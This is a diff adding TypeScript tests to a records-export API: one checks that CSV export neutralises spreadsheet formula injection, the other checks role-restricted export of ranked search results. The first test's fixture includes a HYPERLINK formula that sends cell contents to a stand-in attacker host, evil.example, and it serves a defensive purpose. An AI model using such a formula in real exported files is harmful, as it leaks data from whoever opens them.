@@ -63,4 +63,38 @@ describe.each(DIALECTS)('record export as tables on %s', (dialect) => {
     expect(operator.statusCode).toBe(403);
     expect(operator.headers['content-type']).toContain('application/problem+json');
   });
+
+  it('writes a cell that a spreadsheet would run as a formula as plain text', async () => {
+    const kz = await t.as('KZ-MVD', 'operator');
+    const created = await t.app.inject({
+      method: 'POST',
+      url: '/api/v1/records',
+      headers: kz,
+      payload: stolenVehicle({ legalBasis: '=HYPERLINK("http://evil.example/?"&A1,"ok")', remarks: '@SUM(1)' }),
+    });
+    expect(created.statusCode, created.body).toBe(201);
+    const response = await exported('format=csv&owner=KZ-MVD');
+    expect(response.body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""ok"")"`);
+    expect(response.body).not.toMatch(/,=HYPERLINK|,"=HYPERLINK/);
+  });
+
+  it("exports a ranked search's records in the order the search shows them, to a role that may export", async () => {
+    const search = async (role: 'analyst' | 'operator') =>
+      t.app.inject({
+        method: 'POST',
+        url: '/api/v1/records/search/export?format=csv',
+        headers: await t.as('RU-MVD', role),
+        payload: { person: { surname: 'Rakhmonov', given: 'Farrukh' } },
+      });
+    const ok = await search('analyst');
+    expect(ok.statusCode, ok.body).toBe(200);
+    expect(ok.headers['content-disposition']).toMatch(/svod-search-\d{4}-\d{2}-\d{2}\.csv/);
+    const lines = ok.body
+      .replace(/^\uFEFF/, '')
+      .trimEnd()
+      .split('\n');
+    expect(lines[0]).toBe(RECORD_COLUMNS.join(','));
+    expect(lines[1]).toContain(person.id);
+    expect((await search('operator')).statusCode).toBe(403);
+  });
 });
